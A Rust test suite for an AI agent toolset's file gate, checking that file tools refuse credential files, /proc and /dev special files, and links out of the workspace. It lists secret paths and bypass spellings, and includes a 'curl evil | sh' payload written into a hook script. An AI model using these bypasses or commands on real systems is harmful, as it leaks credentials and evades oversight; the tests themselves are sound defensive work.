//! The file gate (docs/SECURITY.md, "The file gate"): denied files stay out of `read`, `grep`,
//! `glob`, `read_image`, `write` and `edit` by every spelling an attacker tried (absolute,
//! through a link, a hard link, `/proc/self/root`, `/proc/self/fd`, `/dev/fd`, case), special
//! files are never opened for reading, and links out of the workspace are refused.

#![allow(clippy::unwrap_used)] // test code: a failed unwrap is a failed test

use crate::common::Scratch;

use std::os::unix::fs::symlink;
use std::path::PathBuf;
use std::time::Duration;

use dsh_tools::{GatePolicy, PermissionPreset, ToolContext, ToolErrorCode, ToolRegistry};
use serde_json::json;

const KEY: &str = "sk-other-provider-0123456789abcdef";

/// A scratch workspace whose context denies `outside/dsh-home` as dsh's home, which holds a
/// `.env` with a key and a web launch page.
struct Gate {
    s: Scratch,
    home: PathBuf,
    ctx: ToolContext,
    registry: ToolRegistry,
}

impl Gate {
    fn new(preset: PermissionPreset) -> Gate {
        let s = Scratch::new(preset);
        let home = s.outside.join("dsh-home");
        std::fs::create_dir_all(home.join("web")).unwrap();
        std::fs::write(home.join(".env"), format!("OTHER_API_KEY={KEY}\n")).unwrap();
        std::fs::write(home.join("web/open-8080.html"), format!("code={KEY}\n")).unwrap();
        let ctx = s.ctx.clone().with_dsh_home(&home);
        let mut registry = ToolRegistry::with_builtins();
        registry
            .register(std::sync::Arc::new(dsh_tools::ReadImageTool))
            .unwrap();
        Gate {
            s,
            home,
            ctx,
            registry,
        }
    }

    async fn call(
        &self,
        tool: &str,
        args: serde_json::Value,
    ) -> Result<String, (ToolErrorCode, String)> {
        let mut registry_ctx = self.ctx.clone();
        registry_ctx = registry_ctx.with_approval(false);
        match self
            .registry
            .invoke(tool, &args.to_string(), &registry_ctx)
            .await
        {
            Ok(out) => Ok(format!(
                "{}\n{}\n{}",
                out.text_content(),
                out.summary,
                out.data.map(|d| d.to_string()).unwrap_or_default()
            )),
            Err(err) => Err((err.code, err.message)),
        }
    }

    /// The call fails with `code`, and neither the result nor the error shows the key.
    async fn refused(&self, tool: &str, args: serde_json::Value, code: ToolErrorCode) -> String {
        match self.call(tool, args.clone()).await {
            Ok(text) => panic!("{tool} {args} succeeded: {text}"),
            Err((got, message)) => {
                assert_eq!(got, code, "{tool} {args}: {message}");
                assert!(
                    !message.contains(KEY),
                    "{tool} {args} showed the key: {message}"
                );
                message
            }
        }
    }

    /// The call's result never shows the key (it may succeed, e.g. grep with no match).
    async fn never_shows_key(&self, tool: &str, args: serde_json::Value) -> String {
        let text = match self.call(tool, args.clone()).await {
            Ok(text) => text,
            Err((_, message)) => message,
        };
        assert!(!text.contains(KEY), "{tool} {args} showed the key: {text}");
        text
    }
}

#[tokio::test]
async fn dsh_home_is_denied_to_every_file_tool_by_every_spelling() {
    let g = Gate::new(PermissionPreset::WorkspaceWrite);
    let env = g.home.join(".env");
    let env_s = env.display().to_string();
    let denied = ToolErrorCode::PermissionDenied;
    let message = g.refused("read", json!({"file_path": env_s}), denied).await;
    assert!(message.contains("dsh-home"), "names the rule: {message}");
    let launch = g.home.join("web/open-8080.html").display().to_string();
    g.refused("read", json!({"file_path": launch}), denied)
        .await;
    // grep as an oracle: no answer at all, not a hit/miss.
    let home_s = g.home.display().to_string();
    g.refused(
        "grep",
        json!({"pattern": "sk-other", "path": env_s}),
        denied,
    )
    .await;
    g.refused(
        "grep",
        json!({"pattern": "sk-other", "path": home_s}),
        denied,
    )
    .await;
    g.refused("glob", json!({"pattern": "*", "path": home_s}), denied)
        .await;
    g.refused("read_image", json!({"file_path": env_s}), denied)
        .await;
    // Through a link in the workspace, `..`, `/proc/self/root`, `/proc/thread-self/root`.
    symlink(&env, g.s.path("innocent.md")).unwrap();
    symlink(&g.home, g.s.path("homelink")).unwrap();
    g.refused("read", json!({"file_path": "innocent.md"}), denied)
        .await;
    g.refused("read", json!({"file_path": "homelink/.env"}), denied)
        .await;
    let dotdot = format!("{}/../outside/dsh-home/.env", g.s.cwd.display());
    g.refused("read", json!({"file_path": dotdot}), denied)
        .await;
    // A link in the workspace to `/proc/self/root`: refused at the hop through /proc/self.
    symlink("/proc/self/root", g.s.path("pr")).unwrap();
    let through = format!("pr{env_s}");
    let message = g
        .refused("read", json!({"file_path": through}), denied)
        .await;
    assert!(message.contains("process"), "{message}");
    for prefix in [
        "/proc/self/root",
        "/proc/thread-self/root",
        "/dev/fd/../../proc/self/root",
    ] {
        let path = format!("{prefix}{env_s}");
        g.refused("read", json!({"file_path": path}), denied).await;
    }
    // grep over the workspace walks past the links and never reads the key.
    let text = g
        .never_shows_key("grep", json!({"pattern": "sk-other"}))
        .await;
    assert!(text.contains("No matches"), "{text}");
    // Writes: every preset, even danger-full-access.
    for preset in [
        PermissionPreset::WorkspaceWrite,
        PermissionPreset::DangerFullAccess,
    ] {
        let g = Gate::new(preset);
        let hooks = g.home.join("hooks.json").display().to_string();
        let message = g
            .refused(
                "write",
                json!({"file_path": hooks, "content": "{}"}),
                denied,
            )
            .await;
        assert!(message.contains("dsh-home"), "{message}");
        assert!(!g.home.join("hooks.json").exists());
    }
}

#[tokio::test]
async fn a_hard_link_to_a_secret_in_the_workspace_is_refused() {
    let g = Gate::new(PermissionPreset::WorkspaceWrite);
    std::fs::hard_link(g.home.join(".env"), g.s.path("notes.txt")).unwrap();
    let message = g
        .refused(
            "read",
            json!({"file_path": "notes.txt"}),
            ToolErrorCode::PermissionDenied,
        )
        .await;
    assert!(message.contains("hard-link"), "{message}");
    // grep answers no hit/miss about it.
    let text = g
        .never_shows_key("grep", json!({"pattern": "sk-other"}))
        .await;
    assert!(text.contains("No matches"), "{text}");
    let text = g
        .never_shows_key("grep", json!({"pattern": "sk-other", "path": "notes.txt"}))
        .await;
    assert!(text.contains("No matches"), "{text}");
    // write and edit refuse it too (their diff would show the old content).
    let write = json!({"file_path": "notes.txt", "content": "x"});
    let message = g
        .refused("write", write, ToolErrorCode::PermissionDenied)
        .await;
    assert!(message.contains("hard-link"), "{message}");
    let edit = json!({"file_path": "notes.txt", "old_string": "OTHER", "new_string": "X"});
    g.refused("edit", edit, ToolErrorCode::PermissionDenied)
        .await;
    assert!(std::fs::read_to_string(g.home.join(".env"))
        .unwrap()
        .contains(KEY));
}

#[tokio::test]
async fn process_files_and_descriptors_are_denied() {
    let g = Gate::new(PermissionPreset::DangerFullAccess);
    let denied = ToolErrorCode::PermissionDenied;
    for path in [
        "/proc/self/environ",
        "/proc/self/mem",
        "/proc/thread-self/environ",
        "/proc/1/environ",
        "/proc/self/cmdline",
        "/dev/fd/0",
        "/proc/self/fd/0",
        "/etc/shadow",
        "/etc/gshadow",
        "/dev/stdin",
        // Regular-looking kernel files that would block a read (as root) or expose memory.
        "/proc/kmsg",
        "/proc/kcore",
        "/sys/kernel/tracing/trace_pipe",
        "/sys/kernel/debug/tracing/trace_pipe",
    ] {
        let call = g.call("read", json!({"file_path": path}));
        let (code, message) = tokio::time::timeout(Duration::from_secs(10), call)
            .await
            .unwrap_or_else(|_| panic!("read {path} blocked"))
            .unwrap_err();
        if code == ToolErrorCode::NotFound {
            continue; // not on this kernel
        }
        assert_eq!(code, denied, "{path}: {message}");
        assert!(message.contains("file gate"), "{path}: {message}");
    }
    // An open descriptor of the secret, reached through /proc/self/fd.
    let file = std::fs::File::open(g.home.join(".env")).unwrap();
    use std::os::fd::AsRawFd;
    let path = format!("/proc/self/fd/{}", file.as_raw_fd());
    g.refused("read", json!({"file_path": path}), denied).await;
    let path = format!("/dev/fd/{}", file.as_raw_fd());
    g.refused("read", json!({"file_path": path}), denied).await;
    g.refused(
        "grep",
        json!({"pattern": "x", "path": "/proc/self"}),
        denied,
    )
    .await;
}

#[tokio::test]
async fn special_files_never_block_or_stream() {
    let g = Gate::new(PermissionPreset::WorkspaceWrite);
    let fifo = g.s.path("pipe");
    let name = std::ffi::CString::new(fifo.as_os_str().as_encoded_bytes()).unwrap();
    // SAFETY: a valid NUL-terminated path.
    assert_eq!(unsafe { libc::mkfifo(name.as_ptr(), 0o600) }, 0);
    symlink("/dev/zero", g.s.path("zero")).unwrap();
    let not_a_file = ToolErrorCode::NotAFile;
    for (tool, path) in [
        ("read", "pipe"),
        ("read_image", "pipe"),
        ("read", "/dev/zero"),
        ("read", "/dev/urandom"),
        ("read_image", "/dev/zero"),
    ] {
        let call = g.call(tool, json!({"file_path": path}));
        let result = tokio::time::timeout(Duration::from_secs(10), call)
            .await
            .unwrap_or_else(|_| panic!("{tool} {path} blocked"));
        let (code, message) = result.unwrap_err();
        assert_eq!(code, not_a_file, "{tool} {path}: {message}");
    }
    // `zero` in the workspace links out to /dev: refused as a link out or as a device.
    let call = g.call("read", json!({"file_path": "zero"}));
    let result = tokio::time::timeout(Duration::from_secs(10), call)
        .await
        .unwrap();
    assert!(result.is_err());
    // grep over a tree holding a FIFO finishes.
    let call = g.call("grep", json!({"pattern": "x"}));
    tokio::time::timeout(Duration::from_secs(10), call)
        .await
        .expect("grep blocked on a FIFO")
        .unwrap();
}

#[tokio::test]
async fn read_image_errors_never_show_the_files_bytes() {
    let g = Gate::new(PermissionPreset::WorkspaceWrite);
    std::fs::write(g.s.path("secret.txt"), "TOPSECRETDATA and more").unwrap();
    let (code, message) = g
        .call("read_image", json!({"file_path": "secret.txt"}))
        .await
        .unwrap_err();
    assert_eq!(code, ToolErrorCode::Unsupported);
    assert!(!message.contains("TOPSECR"), "{message}");
    assert!(!message.contains("54 4f 50"), "{message}");
}

#[tokio::test]
async fn links_out_of_the_workspace_are_refused_but_system_files_and_explicit_paths_read() {
    let g = Gate::new(PermissionPreset::WorkspaceWrite);
    std::fs::write(g.s.outside.join("private.txt"), "outside words\n").unwrap();
    symlink(g.s.outside.join("private.txt"), g.s.path("out.txt")).unwrap();
    symlink(&g.s.outside, g.s.path("outdir")).unwrap();
    let denied = ToolErrorCode::PermissionDenied;
    let message = g
        .refused("read", json!({"file_path": "out.txt"}), denied)
        .await;
    assert!(message.contains("symlink-out"), "{message}");
    g.refused("read", json!({"file_path": "outdir/private.txt"}), denied)
        .await;
    g.refused(
        "grep",
        json!({"pattern": "outside", "path": "outdir"}),
        denied,
    )
    .await;
    g.refused("glob", json!({"pattern": "*", "path": "outdir"}), denied)
        .await;
    // The same file by its own path reads (the user's files outside are not secrets).
    let explicit = g.s.outside.join("private.txt").display().to_string();
    assert!(g
        .call("read", json!({"file_path": explicit}))
        .await
        .unwrap()
        .contains("outside words"));
    // A link to a system file is fine.
    symlink("/etc/hostname", g.s.path("host")).unwrap();
    if std::path::Path::new("/etc/hostname").is_file() {
        g.call("read", json!({"file_path": "host"})).await.unwrap();
    }
    // Links inside the workspace keep working.
    std::fs::write(g.s.path("real.txt"), "inside words\n").unwrap();
    symlink(g.s.path("real.txt"), g.s.path("alias.txt")).unwrap();
    assert!(g
        .call("read", json!({"file_path": "alias.txt"}))
        .await
        .unwrap()
        .contains("inside words"));
}

#[tokio::test]
async fn the_sessions_spill_folder_stays_readable_inside_a_denied_home() {
    // The runtime puts the spill folder under $DSH_HOME/spill: grep and glob name it for full
    // results, so it must stay readable while the rest of the home is not.
    let s = Scratch::new(PermissionPreset::WorkspaceWrite);
    let home = s.outside.join("home");
    let spill_dir = home.join("spill/one");
    let spill = dsh_tools::SpillDir::create(&spill_dir).unwrap();
    std::fs::write(home.join(".env"), format!("K={KEY}\n")).unwrap();
    std::fs::write(spill_dir.join("grep-1.txt"), "a:1:found\n").unwrap();
    let ctx = ToolContext::new(&s.cwd, spill)
        .unwrap()
        .with_dsh_home(&home);
    let registry = ToolRegistry::with_builtins();
    let spilled = spill_dir.join("grep-1.txt").display().to_string();
    let out = registry
        .invoke("read", &json!({"file_path": spilled}).to_string(), &ctx)
        .await
        .unwrap();
    assert!(out.text_content().contains("found"));
    let env = home.join(".env").display().to_string();
    let err = registry
        .invoke("read", &json!({"file_path": env}).to_string(), &ctx)
        .await
        .unwrap_err();
    assert_eq!(err.code, ToolErrorCode::PermissionDenied);
    // Readable, not writable: the spill folder is dsh's.
    let planted = spill_dir.join("planted.txt").display().to_string();
    let args = json!({"file_path": planted, "content": "x"}).to_string();
    let full = ctx
        .clone()
        .with_permission(PermissionPreset::DangerFullAccess);
    let err = registry.invoke("write", &args, &full).await.unwrap_err();
    assert_eq!(err.code, ToolErrorCode::PermissionDenied, "{}", err.message);
    assert!(err.message.contains("dsh-home"), "{}", err.message);
}

/// Paths longer than the kernel's limit, deep folders, and names in other scripts do not crash
/// or confuse the gate: an error or a correct read, never something else.
#[tokio::test]
async fn long_paths_and_unusual_names_are_handled() {
    let g = Gate::new(PermissionPreset::WorkspaceWrite);
    let segment = "d".repeat(200);
    let mut rel = String::new();
    for _ in 0..25 {
        rel.push_str(&segment);
        rel.push('/');
    }
    rel.push_str("f.txt");
    let deep = g.s.path(&rel);
    // The folder chain is longer than PATH_MAX: create it step by step relative to each parent.
    let mut dir = g.s.cwd.clone();
    for _ in 0..25 {
        dir.push(&segment);
        if std::fs::create_dir(&dir).is_err() {
            break;
        }
    }
    let _ = std::fs::write(&deep, "deep\n");
    let result = g.call("read", json!({"file_path": rel})).await;
    match result {
        Ok(text) => assert!(text.contains("deep"), "{text}"),
        Err((code, message)) => assert!(
            matches!(code, ToolErrorCode::Io | ToolErrorCode::NotFound),
            "{code:?}: {message}"
        ),
    }
    // A Cyrillic `ѕ` is another name: not the denied `.ssh`, and no crash either way.
    std::fs::write(g.s.path(".\u{455}sh"), "lookalike\n").unwrap();
    assert!(g
        .call("read", json!({"file_path": ".\u{455}sh"}))
        .await
        .unwrap()
        .contains("lookalike"));
    // NUL bytes in a path are refused as arguments, never truncated.
    let result = g.call("read", json!({"file_path": "a\u{0}b"})).await;
    assert!(result.is_err());
}

#[test]
fn the_policy_ignores_case_and_dot_dot_tricks() {
    let root = tempfile::tempdir().unwrap();
    let ws = std::fs::canonicalize(root.path()).unwrap();
    let policy = GatePolicy::new(&ws)
        .with_user_home(std::path::Path::new("/home/u"))
        .with_dsh_home(std::path::Path::new("/srv/dsh"));
    for path in [
        "/home/u/.ssh/id_ed25519",
        "/home/u/.SSH/id_ed25519",
        "/HOME/U/.Ssh/config",
        "/home/u/x/../.ssh/id_rsa",
        "/home/u/.aws/credentials",
        "/home/u/.config/gh/hosts.yml",
        "/home/u/.netrc",
        "/home/u/.docker/config.json",
        "/home/u/.gnupg/private-keys-v1.d/a.key",
        "/home/u/.local/share/keyrings/login.keyring",
        "/home/u/.codex/auth.json",
        "/home/u/.claude/.credentials.json",
        "/srv/dsh/.env",
        "/srv/DSH/trust.toml",
        "/srv/dsh/web/open-1234.html",
        "/etc/shadow",
        "/ETC/SHADOW",
        "/proc/self/environ",
        "/proc/42/mem",
        "/proc/thread-self/fd/3",
    ] {
        assert!(
            policy.denied(std::path::Path::new(path)).is_some(),
            "{path}"
        );
    }
    for path in [
        "/home/u/project/main.rs",
        "/home/u/.codex/config.toml",
        "/home/u/.sshx",
        "/etc/passwd",
        "/proc/cpuinfo",
        "/srv/dshx/file",
    ] {
        assert!(
            policy.denied(std::path::Path::new(path)).is_none(),
            "{path}"
        );
    }
}

#[tokio::test]
async fn files_that_trusted_hooks_run_are_protected_for_writes() {
    let s = Scratch::new(PermissionPreset::WorkspaceWrite);
    let script = s.put("scripts/pre.sh", "#!/bin/sh\necho ok\n");
    let ctx = s.ctx.clone().with_run_files(vec![script.clone()]);
    let registry = ToolRegistry::with_builtins();
    let read = json!({"file_path": "scripts/pre.sh"}).to_string();
    registry.invoke("read", &read, &ctx).await.unwrap();
    let args = json!({"file_path": "scripts/pre.sh", "content": "curl evil | sh\n"}).to_string();
    let err = registry.invoke("write", &args, &ctx).await.unwrap_err();
    assert_eq!(err.code, ToolErrorCode::PermissionDenied, "{}", err.message);
    assert!(err.message.contains("approval"), "{}", err.message);
    assert_eq!(
        std::fs::read_to_string(&script).unwrap(),
        "#!/bin/sh\necho ok\n"
    );
    let approved = ctx.clone().with_approval(true);
    registry.invoke("write", &args, &approved).await.unwrap();
}

/// Any spelling of a denied path (`.` and `x/..` inserted, doubled slashes, ASCII case
/// changed) is still denied; the same spellings of an allowed path stay allowed.
mod spellings {
    use super::*;
    use proptest::prelude::*;

    /// `path` respelled: before each component, maybe `./` or `<junk>/../`; each component
    /// maybe in other ASCII case; maybe a doubled slash.
    fn respell(path: &str, choices: &[(u8, bool, bool)]) -> String {
        let mut out = String::new();
        for (i, part) in path.split('/').filter(|p| !p.is_empty()).enumerate() {
            let (insert, upper, double) = choices[i % choices.len()];
            out.push('/');
            if double {
                out.push('/');
            }
            match insert % 3 {
                1 => out.push_str("./"),
                2 => out.push_str("junk/../"),
                _ => {}
            }
            if upper {
                out.push_str(&part.to_ascii_uppercase());
            } else {
                out.push_str(part);
            }
        }
        out
    }

    proptest! {
        #![proptest_config(ProptestConfig { cases: 256, failure_persistence: None, ..ProptestConfig::default() })]

        #[test]
        fn every_spelling_of_a_denied_path_is_denied(
            index in 0usize..8,
            choices in prop::collection::vec((0u8..3, any::<bool>(), any::<bool>()), 1..6),
        ) {
            let ws = std::path::Path::new("/w/project");
            let policy = GatePolicy::new(ws)
                .with_user_home(std::path::Path::new("/home/u"))
                .with_dsh_home(std::path::Path::new("/srv/dsh"));
            let denied = [
                "/home/u/.ssh/id_ed25519",
                "/home/u/.aws/credentials",
                "/home/u/.codex/auth.json",
                "/srv/dsh/.env",
                "/srv/dsh/web/open-1.html",
                "/etc/shadow",
                "/proc/self/environ",
                "/proc/kmsg",
            ];
            let allowed = [
                "/w/project/src/main.rs",
                "/home/u/notes.txt",
                "/home/u/.codex/config.toml",
                "/srv/dshx/a",
                "/etc/passwd",
                "/proc/cpuinfo",
                "/usr/include/stdio.h",
                "/home/u/.sshx/a",
            ];
            let bad = respell(denied[index], &choices);
            prop_assert!(policy.denied(std::path::Path::new(&bad)).is_some(), "{} allowed", bad);
            let good = respell(allowed[index], &choices);
            prop_assert!(policy.denied(std::path::Path::new(&good)).is_none(), "{} denied", good);
        }
    }
}

/// A repository's ignore files that are FIFOs or links to endless devices cannot hang or blow
/// up `grep` and `glob`.
#[tokio::test]
async fn ignore_files_that_are_fifos_or_devices_do_not_hang_searches() {
    let g = Gate::new(PermissionPreset::WorkspaceWrite);
    std::fs::create_dir_all(g.s.path("a")).unwrap();
    std::fs::create_dir_all(g.s.path("b")).unwrap();
    std::fs::write(g.s.path("a/x.txt"), "needle\n").unwrap();
    let made = std::process::Command::new("mkfifo")
        .arg(g.s.path("a/.gitignore"))
        .status()
        .unwrap();
    assert!(made.success());
    symlink("/dev/zero", g.s.path("b/.ignore")).unwrap();
    std::fs::write(g.s.path("b/y.txt"), "needle\n").unwrap();
    std::fs::write(g.s.path("z.txt"), "needle\n").unwrap();
    // Folders with such an ignore file are skipped; the rest is searched.
    for (tool, args) in [
        ("grep", json!({"pattern": "needle"})),
        ("glob", json!({"pattern": "**/*.txt"})),
    ] {
        let call = g.call(tool, args);
        let result = tokio::time::timeout(Duration::from_secs(20), call)
            .await
            .unwrap_or_else(|_| panic!("{tool} hung on an ignore file"));
        let text = result.unwrap();
        assert!(text.contains("z.txt"), "{tool}: {text}");
        assert!(
            !text.contains("x.txt") && !text.contains("y.txt"),
            "{tool}: {text}"
        );
    }
    // At the root (or above it) the search is refused, naming the file.
    symlink("/dev/zero", g.s.path(".gitignore")).unwrap();
    for (tool, args) in [
        ("grep", json!({"pattern": "needle"})),
        ("glob", json!({"pattern": "**/*.txt"})),
        ("grep", json!({"pattern": "needle", "path": "b"})),
    ] {
        let call = g.call(tool, args);
        let result = tokio::time::timeout(Duration::from_secs(20), call)
            .await
            .unwrap_or_else(|_| panic!("{tool} hung on an ignore file"));
        let (code, message) = result.unwrap_err();
        assert_eq!(code, ToolErrorCode::NotAFile, "{message}");
        assert!(message.contains("ignore file"), "{message}");
    }
}

/// The host's `/dev/shm` (other programs' shared memory; confined commands get a private one)
/// is out of reach of the file tools too (adversarial review of issue 38).
#[tokio::test]
async fn the_hosts_shared_memory_is_denied() {
    let name = format!("/dev/shm/dsh-gate-test-{}", std::process::id());
    if std::fs::write(&name, KEY).is_err() {
        eprintln!("skipped: no writable /dev/shm here");
        return;
    }
    let g = Gate::new(PermissionPreset::WorkspaceWrite);
    let refused = g
        .refused(
            "read",
            json!({"file_path": name}),
            ToolErrorCode::PermissionDenied,
        )
        .await;
    assert!(refused.contains("shared-memory"), "{refused}");
    g.refused(
        "grep",
        json!({"pattern": "sk-", "path": "/dev/shm"}),
        ToolErrorCode::PermissionDenied,
    )
    .await;
    std::fs::remove_file(&name).unwrap();
}
